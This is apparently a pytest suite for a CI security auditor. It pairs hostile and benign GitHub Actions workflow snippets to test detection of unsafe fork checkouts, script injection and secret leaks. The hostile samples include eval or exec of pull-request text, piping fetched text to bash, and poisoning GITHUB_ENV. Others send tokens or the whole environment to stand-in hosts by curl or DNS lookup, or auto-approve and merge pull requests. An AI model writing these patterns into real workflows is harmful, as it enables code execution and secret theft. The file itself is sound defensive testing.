"""Workflows that fetch what outsiders propose, run their text or send secrets away, however it is spelt; each beside one that does not."""

from __future__ import annotations

from pathlib import Path
from typing import NamedTuple

import pytest

from auditor.domain import CodeLocation, Evidence, Outcome
from tests.auditing import asked
from tests.repos import Content, Drawing

TRIGGER = "workflows.dangerous_trigger"
INJECTED = "workflows.script_injection"
SECRET = "workflows.secrets_exposed"
SHA = "8ade135a41bc03ea155e62e844d188df1ea18608"
START = "on: {trigger}\npermissions:\n  contents: write\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
CHECKOUT = f"      - uses: actions/checkout@{SHA}\n        with:\n          ref: @\n      - run: make test\n"
SCRIPT = f"      - uses: actions/github-script@{SHA}\n        env:\n          BODY: ${{{{ github.event.pull_request.body }}}}\n        with:\n          script: @\n"
PYTHON = "      - shell: python\n        env:\n          BODY: ${{ github.event.pull_request.body }}\n        run: |\n          import os\n          @\n"
FLOW = '      - env: {A: x, B: "${{ github.event.issue.body }}"}\n        @\n'
JOBS = """      - run: echo
        id: a
    outputs: {t: "@"}
  label:
    needs: build
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ needs.build.outputs.t }}"
"""
TEXTS = """      - env:
          T: ${{ github.event.issue.title }}
          B: ${{ github.event.issue.body }}
        run: |
          @
"""
RETURNED = f"      - uses: actions/github-script@{SHA}\n        id: a\n        with:\n          script: |\n            @\n      - run: echo ${{{{ steps.a.outputs.result }}}}\n"
MATRIX = """      - run: echo
  test:
    strategy:
      matrix:
        system: @
    runs-on: ubuntu-latest
    steps:
      - run: echo ${{ matrix.system }}
"""
IMAGE = """      - run: echo
  test:
    runs-on: ubuntu-latest
    container:
      image: @
    steps:
      - run: make
"""
RUNNER = """      - run: echo
  test:
    runs-on: @
    steps:
      - run: make
"""
ARTIFACT = (
    '      - env: {K: "${{ secrets.K }}"}\n        run: @\n      - uses: actions/upload-artifact\0'
    + SHA
    + "\n        with: {name: e, path: e.txt}\n"
)
STEP = "      - run: @\n"
OPENED = "      - run: |\n          @\n        if: github.event.action == 'opened'\n"
DOWNLOAD = f"      - uses: actions/download-artifact\0{SHA}\n        with:\n          path: built\n          run-id: ${{{{ github.event.workflow_run.id }}}}\n"
FORK = "      - env:\n          FROM: ${{ github.event.pull_request.head.repo.full_name }}\n          AT: ${{ github.event.pull_request.head.sha }}\n        run: @\n"
REPORT = f"      - uses: actions/github-script@{SHA}\n        with:\n          script: |\n            @\n"
KEPT = f"      - uses: actions/checkout\0{SHA}\n        with:\n          @\n      - uses: actions/upload-artifact\0{SHA}\n        with:\n          name: all\n          include-hidden-files: true\n          path: |\n            ./\n"
WHOLE = f"      - uses: actions/checkout\0{SHA}\n      - uses: actions/upload-artifact\0{SHA}\n        with:\n          include-hidden-files: true\n          path: @\n"
RUN = "      - env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: @\n"


class Case(NamedTuple):
    """What is spelt how: the question, the trigger, the steps with `@` for a text, a hostile text and a benign one."""

    name: str
    probe: str
    steps: str
    hostile: str
    benign: str
    trigger: str = "pull_request_target"
    at_least: float = 0.8


CASES = [
    Case("a commit in brackets", TRIGGER, CHECKOUT, "${{ github['event']['pull_request']['head']['sha'] }}", "${{ github['event']['pull_request']['base']['sha'] }}"),
    Case("the commit of the merge", TRIGGER, CHECKOUT, "${{ github.event.pull_request.merge_commit_sha }}", "${{ github.sha }}"),
    Case("a commit that is unpacked again", TRIGGER, CHECKOUT, "${{ fromJSON(toJSON(github.event.pull_request)).head.sha }}", "${{ fromJSON(toJSON(github.event.pull_request)).base.sha }}"),
    Case("a commit of another run", TRIGGER, CHECKOUT, "${{ github.event.workflow_run.head_sha }}", "${{ github.event.repository.default_branch }}", "\n  workflow_run: {workflows: [CI]}"),
    Case("a commit in a variable", TRIGGER, "      - run: echo\n        env:\n          REF: @\n" + CHECKOUT.replace("ref: @", "ref: ${{ env.REF }}"), "${{ github.event.pull_request.head.sha }}", "${{ github.event.pull_request.base.sha }}"),
    Case("a commit in an output", TRIGGER, '      - id: r\n        run: echo "sha=@" >> "$GITHUB_OUTPUT"\n' + CHECKOUT.replace("ref: @", "ref: ${{ steps.r.outputs.sha }}"), "${{ github.event.pull_request.head.sha }}", "${{ github.event.pull_request.base.sha }}"),
    Case("a branch that git fetches", TRIGGER, f"      - uses: actions/checkout@{SHA}\n      - run: git fetch origin @ && git checkout FETCH_HEAD && make\n", "pull/${{ github.event.number }}/head", "main"),
    Case("a repository that git clones", TRIGGER, "      - env:\n          URL: @\n        run: git clone \"$URL\" x && make -C x\n", "${{ github.event.pull_request.head.repo.clone_url }}", "${{ github.event.pull_request.base.repo.clone_url }}"),
    Case("a body that JavaScript evaluates", INJECTED, SCRIPT, "eval(process.env.BODY)", "console.log(process.env.BODY.length)"),
    Case("a body in a command of JavaScript", INJECTED, SCRIPT, "require('child_process').execSync(`echo ${process.env.BODY}`)", "require('child_process').execFileSync('make', ['test'])"),
    Case("a body under another name", INJECTED, SCRIPT, "|\n            const text = process.env.BODY\n            eval(text)", "|\n            const text = process.env.BODY\n            core.info(text)"),
    Case("the payload in a command", INJECTED, SCRIPT, "require('child_process').execSync('echo ' + context.payload.pull_request.title)", "core.info(context.payload.pull_request.title)"),
    Case("a body that Python runs", INJECTED, PYTHON, "exec(os.environ['BODY'])", "print(len(os.environ['BODY']))"),
    Case("a body in a shell of Python", INJECTED, PYTHON, "os.system('echo ' + os.environ['BODY'])", "os.system('make test')"),
    Case("an input that an action runs", INJECTED, f"      - uses: some/run@{SHA}\n        with:\n          command: @\n", "echo ${{ github.event.pull_request.title }}", "echo ${{ github.event.pull_request.number }}", at_least=0.7),
    Case("a variable in braces that Python runs", INJECTED, FLOW, "shell: python\n        run: |\n          import os\n          exec(os.environ['B'])", "shell: python\n        run: |\n          import os\n          exec(os.environ['A'])"),
    Case("a variable in braces for Python on a command line", INJECTED, FLOW, "run: python3 -c 'import os; exec(os.environ[\"B\"])'", "run: python3 -c 'import os; print(os.environ[\"B\"])'"),
    Case("a variable in braces that node runs", INJECTED, FLOW, "run: eval(process.env.B)\n        shell: node {0}", "run: console.log(process.env.B)\n        shell: node {0}"),
    Case("a script in one row with escapes", INJECTED, FLOW, "shell: python\n        run: \"import os\\nexec(os.environ['B'])\"", "shell: python\n        run: \"import os\\nprint(os.environ['B'])\""),
    Case("a body that Perl evaluates", INJECTED, FLOW, "run: perl -e 'eval $ENV{B}'", "run: perl -e 'print $ENV{B}'"),
    Case("a body that Ruby evaluates", INJECTED, FLOW, "run: ruby -e 'eval ENV[\"B\"]'", "run: ruby -e 'puts ENV[\"B\"]'"),
    Case("a body that PowerShell evaluates", INJECTED, FLOW, "shell: pwsh\n        run: Invoke-Expression $env:B", "shell: pwsh\n        run: Write-Output $env:B"),
    Case("a title in an output of a job", INJECTED, JOBS, "${{ github.event.issue.title }}", "${{ github.event.issue.number }}", at_least=0.7),
    Case("a title that a script returns", INJECTED, RETURNED, "return context.payload.issue.title", "return context.payload.issue.title.length", at_least=0.7),
    Case("a title that a script returns by a name", INJECTED, RETURNED, "const t = context.payload.issue.title\n            return t.trim()", "const t = context.payload.issue.title\n            return t.startsWith('x') ? 'a' : 'b'", at_least=0.7),
    Case("a document with a title for a shell", INJECTED, TEXTS, "bash <<END\n          echo $T\n          END", "bash <<'END'\n          echo \"$T\"\n          END"),
    Case("a document with a title for a shell behind a pipe", INJECTED, TEXTS, "cat <<END | sh\n          echo $T\n          END", "cat <<END | sort\n          echo $T\n          END"),
    Case("a document with a title for Python", INJECTED, TEXTS, "python3 - <<END\n          print('$T')\n          END", "python3 - <<'END'\n          import os; print(os.environ['T'])\n          END"),
    Case("a document with a title in a file that runs", INJECTED, TEXTS, "cat > x.sh <<END\n          echo $T\n          END\n          bash x.sh", "cat > x.md <<END\n          $T\n          END\n          bash x.sh"),
    Case("a body in a file that runs", INJECTED, TEXTS, 'echo "$B" > n.sh\n          bash ./n.sh', 'echo "$B" > n.txt\n          bash ./n.sh'),
    Case("a body in a file that runs by itself", INJECTED, TEXTS, 'echo "$B" | tee n.sh\n          chmod +x n.sh\n          ./n.sh', 'echo "$B" | tee n.txt\n          chmod +x n.sh\n          ./n.sh'),
    Case("a template filled from the environment", INJECTED, TEXTS, "envsubst < t.sh > out.sh\n          sh out.sh", "envsubst '$HOME' < t.sh > out.sh\n          sh out.sh"),
    Case("a title as a number", INJECTED, TEXTS, 'if [[ "$T" -gt 5 ]]; then echo; fi', 'if [ "$T" -gt 5 ] || [[ "$T" == a ]]; then echo; fi'),
    Case("a title as a number that is checked before", INJECTED, TEXTS, 'if [[ 5 -lt $T ]]; then echo; fi', '[[ "$T" =~ ^[0-9]+$ ]] && [[ 5 -lt $T ]] && echo'),
    Case("a title in arithmetic", INJECTED, TEXTS, "if (( T > 5 )); then echo; fi", "if (( ${#T} > 5 )); then echo; fi"),
    Case("a body that gh prints for a shell", INJECTED, TEXTS, 'gh issue view "$N" --json body -q .body | bash', 'gh issue list --json body,number -q \'.[] | select(.body == "") | .number\' | bash -s'),
    Case("a body that gh prints for eval", INJECTED, TEXTS, 'eval "$(gh pr view --json title)"', 'echo "$(gh pr view --json title)"'),
    Case("a body in the environment of later steps", INJECTED, TEXTS, 'echo "NOTE=$B" >> "$GITHUB_ENV"', 'echo "NOTE=$T" >> "$GITHUB_ENV"', "issues"),
    Case("a body up to a word that anybody can write", INJECTED, TEXTS, '{ echo "N<<EOF"; echo "$B"; echo EOF; } >> "$GITHUB_ENV"', 'end=$(uuidgen); { echo "N<<$end"; echo "$B"; echo "$end"; } >> "$GITHUB_ENV"', "issues"),
    Case("a title as the name of a variable", INJECTED, TEXTS, 'echo "$T" >> "$GITHUB_ENV"', 'echo "N=${B//[^a-z]/}" >> "$GITHUB_ENV"', "issues"),
    Case("a title in the folders of programs", INJECTED, TEXTS, 'echo "$T" >> $GITHUB_PATH', 'echo "$HOME/bin" >> $GITHUB_PATH', "issues"),
    Case("a body beside a text that is cleaned", INJECTED, TEXTS, 'echo "N=$B$(echo x | tr a b)" >> "$GITHUB_ENV"', 'echo "N=$(echo "$B" | tr -d \'\\n\')" >> "$GITHUB_ENV"', "issues"),
    Case("a body beside a text that is cut", INJECTED, TEXTS, '{ echo "A=$(date | head -n 1)"; echo "N=$B"; } >> "$GITHUB_ENV"', '{ echo "A=$(date)"; echo "N=$(echo "$B" | head -n 1)"; } >> "$GITHUB_ENV"', "issues"),
    Case("a body for the environment under another name", INJECTED, TEXTS, 'F=$GITHUB_ENV; echo "N=$B" >> "$F"', 'F=notes.txt; echo "N=$B" >> "$F"', "issues"),
    Case("a body for the environment through tee", INJECTED, TEXTS, 'echo "N=$B" | tee -a "$GITHUB_ENV"', 'echo "N=$B" | tee -a notes.txt', "issues"),
    Case("a body for the environment in a document", INJECTED, TEXTS, "cat >> $GITHUB_ENV <<END\n          N=$B\n          END", "cat >> $GITHUB_ENV <<'END'\n          N=$B\n          END", "issues"),
    Case("a body for the environment in a file", INJECTED, TEXTS, 'echo "N=$B" > n.txt\n          cat n.txt >> "$GITHUB_ENV"', 'echo "N=$B" > n.txt\n          cat o.txt >> "$GITHUB_ENV"', "issues"),
    Case("a body that Python writes for later steps", INJECTED, PYTHON, "open(os.environ['GITHUB_ENV'], 'a').write('B=' + os.environ['BODY'])", "open(os.environ['GITHUB_OUTPUT'], 'a').write('B=' + os.environ['BODY'])"),
    Case("a body that JavaScript writes for later steps", INJECTED, SCRIPT, "require('fs').appendFileSync(process.env.GITHUB_ENV, process.env.BODY)", "require('fs').appendFileSync(process.env.GITHUB_ENV, 'A=1')"),
    Case("a matrix of outsiders", INJECTED, MATRIX, "${{ fromJSON(github.event.issue.body) }}", "${{ fromJSON(vars.SYSTEMS) }}", at_least=0.7),
    Case("an image that outsiders name", INJECTED, IMAGE, "${{ github.event.issue.title }}", "ghcr.io/shop/build:${{ github.event.issue.number }}"),
    Case("a runner that outsiders name", INJECTED, RUNNER, "${{ github.event.issue.title }}", "${{ github.event.issue.title == 'x' && 'macos-latest' || 'ubuntu-latest' }}"),
    Case("a shell that outsiders name", INJECTED, "      - run: make\n        shell: @\n", "${{ github.event.issue.title }} {0}", "${{ github.event.issue.number == 1 && 'sh' || 'bash' }} {0}"),
    Case("a variable that every program reads", INJECTED, "      - run: node a.js\n        env:\n          @\n", "NODE_OPTIONS: ${{ github.event.issue.title }}", "TITLE: ${{ github.event.issue.title }}"),
    Case("a title as a variable of make", INJECTED, TEXTS, 'make label NAME="$T"', 'make label', at_least=0.7),
    Case("a title in a file of variables of Ansible", INJECTED, TEXTS, 'jq -n --arg t "$T" \'{t: $t}\' > v.json\n          ansible-playbook -e @v.json a.yml', 'jq -n --arg t "$T" \'{t: $t}\' > v.json\n          ansible-playbook -e @w.json a.yml'),
    Case("a title as a variable of Ansible", INJECTED, TEXTS, 'ansible-playbook -e "title=$T" a.yml', 'ansible-playbook -i "$T" a.yml'),
    Case("a title in an expression of sed", INJECTED, TEXTS, 'sed -i "s/NAME/$T/" a.txt', 'sed -i s/NAME/TITLE/ "$T.txt"', at_least=0.7),
    Case("a title in a program of awk", INJECTED, TEXTS, 'awk "{ print \\"$T\\" }" a.txt', "awk -v t=\"$T\" '{ print t }' a.txt", at_least=0.7),
    Case("a title that runs at the end", INJECTED, TEXTS, 'trap "$T" EXIT', "trap 'rm -f a.txt' EXIT; echo \"$T\""),
    Case("a title that another user runs", INJECTED, TEXTS, 'su -c "echo $T" shop', 'su shop -s /bin/true; echo "$T"'),
    Case("commands by printed text", INJECTED, "      - run: @\n", 'echo "ACTIONS_ALLOW_UNSECURE_COMMANDS=true" >> $GITHUB_ENV', 'echo "ACTIONS_STEP_DEBUG=true" >> $GITHUB_ENV'),
    Case("a secret in a name that is looked up", SECRET, RUN, 'nslookup "$TOKEN.example.org"', 'nslookup "$TOKEN"', "push"),
    Case("a secret in a comment", SECRET, RUN, 'gh pr comment 1 --body "$TOKEN"', 'gh secret set A --body "$TOKEN"', "push"),
    Case("a secret in the summary", SECRET, RUN, 'echo "$TOKEN" | base64 >> $GITHUB_STEP_SUMMARY', 'echo "$HOME" | base64 >> $GITHUB_STEP_SUMMARY', "push"),
    Case("a secret in a file that is sent", SECRET, RUN, '|\n          echo "$TOKEN" > t\n          curl -T t https://example.net', '|\n          echo "$TOKEN" > t\n          curl -T u https://example.net', "push", 0.5),
    Case("all variables in an artifact", SECRET, ARTIFACT, "env > e.txt", "env > f.txt", "push"),
    Case("a secret in an artifact", SECRET, ARTIFACT, 'echo "$K" | base64 > out/e.txt', 'echo "$HOME" | base64 > out/e.txt', "push"),
    Case("a secret that is posted", SECRET, RUN, 'curl -d "$TOKEN" https://example.net/c', 'curl -H "Authorization: Bearer $TOKEN" https://example.net/c', "push", 0.5),
    Case("a patch of a pull request that git takes", TRIGGER, STEP, 'curl -sSL "$URL/pull/$N.patch" | git -c user.name=a am && make', 'curl -sSL "$URL/pull/$N.patch" | git apply --stat'),
    Case("a difference that is stored and applied", TRIGGER, STEP, "|\n          gh pr diff \"$N\" > d.txt\n          patch -p1 < d.txt", "|\n          gh pr diff \"$N\" --name-only > d.txt\n          grep -c py d.txt"),
    Case("a package of a fork for npm", TRIGGER, FORK, 'npm install "github:$FROM#$AT" && npx shop', 'npm install "shop@next" && echo "$AT"'),
    Case("a program of a fork for Cargo", TRIGGER, FORK, "|\n          cargo install \\\n            --git \"https://github.com/$FROM\" --rev \"$AT\"", "|\n          cargo install --git https://github.com/example/shop --rev 8ade135a\n          echo \"$AT\""),
    Case("a fork that is unpacked", TRIGGER, FORK, 'npx degit "$FROM#$AT" next && make -C next', 'npx degit example/shop next && make -C next'),
    Case("an approval by a request", TRIGGER, REPORT, 'await github.rest.pulls.createReview({ ...context.repo, pull_number, event: "APPROVE" })', 'await github.rest.pulls.createReview({ ...context.repo, pull_number, event: "COMMENT" })'),
    Case("an approval for everybody", TRIGGER, OPENED, 'gh pr review "$URL" -a', 'gh pr review "$URL" -c -b "Thanks"'),
    Case("a merge by the interface", TRIGGER, STEP, 'gh api -X PUT "repos/$R/pulls/$N/merge"', 'gh api "repos/$R/pulls/$N/files"'),
    Case("a merge in a repository that is named", TRIGGER, "      - run: @ \"$URL\"\n", "gh --repo=$GITHUB_REPOSITORY pr -R $GITHUB_REPOSITORY merge --admin", "gh --repo=$GITHUB_REPOSITORY pr -R $GITHUB_REPOSITORY view"),
    Case("a merge for everybody or for a bot", TRIGGER, "      - run: gh pr merge -s \"$URL\"\n        if: @\n", "github.actor != 'dependabot[bot]'", "github.actor == 'dependabot[bot]'"),
    Case("a status that is always good", TRIGGER, STEP, 'gh api "repos/$R/statuses/$AT" -f state=success -f context=build', 'gh api "repos/$R/statuses/$AT" -f state=pending -f context=build', at_least=0.7),
    Case("a check that is always good", TRIGGER, REPORT, "await github.rest.checks.create({ ...context.repo, name: 'build', head_sha, conclusion: 'success' })", "await github.rest.checks.create({ ...context.repo, name: 'build', head_sha, conclusion: ok ? 'success' : 'failure' })", at_least=0.7),
    Case("a script of an artifact", TRIGGER, DOWNLOAD + STEP, "bash built/report.sh", "node scripts/report.js built/report.json", "\n  workflow_run: {workflows: [CI]}"),
    Case("variables of an artifact", TRIGGER, DOWNLOAD + STEP, 'cat built/vars.env | tee -a "$GITHUB_ENV"', 'cat built/report.md | tee -a "$GITHUB_STEP_SUMMARY"', "\n  workflow_run: {workflows: [CI]}"),
    Case("a script that fetches the proposal", TRIGGER, STEP, 'bash ./tools/preview.sh "$N"', "bash ./tools/docs.sh"),
    Case("a recipe that fetches the proposal", TRIGGER, STEP, "make N=$N preview", "make docs"),
    Case("a package of an artifact", TRIGGER, DOWNLOAD + STEP, "cd built && npm ci", "cd built && ls", "\n  workflow_run: {workflows: [CI]}"),
    Case("an artifact without a checkout", TRIGGER, f"      - uses: actions/download-artifact\0{SHA}\n" + STEP, "python3 tools/report.py", "python3 -c 'import json'", "\n  workflow_run: {workflows: [CI]}", 0.7),
    Case("a comment in parts for a program", INJECTED, SCRIPT, "|\n            const { body: text, user } = context.payload.comment\n            const [first, ...rest] = context.payload.comment.body.split(' ')\n            await exec.exec('sh', ['-c', rest.join(' ')])", "|\n            const [first, ...rest] = context.payload.comment.body.split(' ')\n            await exec.exec('make', ['test'])"),
    Case("lines of a body one by one", INJECTED, PYTHON, "for row in os.environ['BODY'].splitlines(): os.system(row)", "for row in os.environ['BODY'].splitlines(): print(row)"),
    Case("a secret backwards from JavaScript", SECRET, RUN, "node -e 'console.log([...process.env.TOKEN].reverse().join(\"\"))'", "node -e 'console.log(process.env.TOKEN.length)'", "push"),
    Case("a secret in a document for Ruby", SECRET, RUN, "|\n          ruby <<'END'\n          key = ENV['TOKEN']\n          puts key.tr('a-z', 'b-za')\n          END", "|\n          ruby <<'END'\n          key = ENV['TOKEN']\n          puts key.empty? ? 'none' : 'set'\n          END", "push"),
    Case("a folder of git in an artifact", SECRET, WHOLE, "${{ github.workspace }}/.git", "${{ github.workspace }}/.github", "push"),
    Case("a token that the checkout keeps", SECRET, KEPT, "persist-credentials: true", "persist-credentials: false", "push"),
    Case("hidden files in an artifact", SECRET, WHOLE, "'**'", "dist", "push"),
    Case("all variables that are posted", SECRET, RUN, "env | curl -d @- https://example.net/c", "env | sort", "push"),
]  # fmt: skip


CALLED: dict[str, Content] = {
    "tools/preview.sh": 'gh pr checkout "$1"\nnpm ci\n',
    "tools/docs.sh": "git fetch origin gh-pages\nnpm run docs\n",
    "Makefile": "docs:\n\tsphinx-build docs out\n\npreview: fetched\n\tnpm ci\n\nfetched:\n\tgit fetch origin pull/$(N)/head\n\tgit checkout FETCH_HEAD\n",
}
"""Files of the repository that steps call."""


def path_of(number: int, kind: str) -> str:
    """Where a workflow of a case is."""
    return f".github/workflows/{kind}{number}.yml"


def written(case: Case, text: str) -> str:
    """The workflow of a case."""
    steps = case.steps.replace("actions/checkout@", "actions/checkout\0").replace("github-script@", "github-script\0").replace("some/run@", "some/run\0")  # fmt: skip
    return START.format(trigger=case.trigger) + steps.replace("@", text, 1).replace("\0", "@")


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], list[Evidence]]:
    """What each question finds in each workflow of one repository with all cases."""
    target: Path = tmp_path_factory.mktemp("shop")
    drawing = Drawing(target)
    base = drawing.commit({"README.md": "# Shop\n", **CALLED})
    drawing.commit(
        {
            path_of(number, kind): written(case, text)
            for number, case in enumerate(CASES)
            for kind, text in (("hostile", case.hostile), ("benign", case.benign))
        }
    )
    seen: dict[tuple[str, str], list[Evidence]] = {}
    for each in asked(target, base, TRIGGER, INJECTED, SECRET).evidence:
        if each.outcome is Outcome.FOUND:
            for path in {place.path for place in each.locations if isinstance(place, CodeLocation)}:
                seen.setdefault((each.probe, path), []).append(each)
    return seen


def confidences(found: dict[tuple[str, str], list[Evidence]], probe: str, path: str) -> list[float]:
    """How sure each finding of a question in a workflow is."""
    return [each.confidence for each in found.get((probe, path), [])]


@pytest.mark.parametrize("number", range(len(CASES)), ids=[each.name for each in CASES])
def test_it_is_seen_however_it_is_spelt(number: int, found: dict[tuple[str, str], list[Evidence]]) -> None:
    case = CASES[number]
    assert max(confidences(found, case.probe, path_of(number, "hostile")), default=0) >= case.at_least


@pytest.mark.parametrize("number", range(len(CASES)), ids=[each.name for each in CASES])
def test_what_only_looks_like_it_is_less_sure_or_silent(
    number: int, found: dict[tuple[str, str], list[Evidence]]
) -> None:
    case = CASES[number]
    limit = 0.6 if case.probe == TRIGGER else 0.0
    assert max(confidences(found, case.probe, path_of(number, "benign")), default=0.0) <= limit
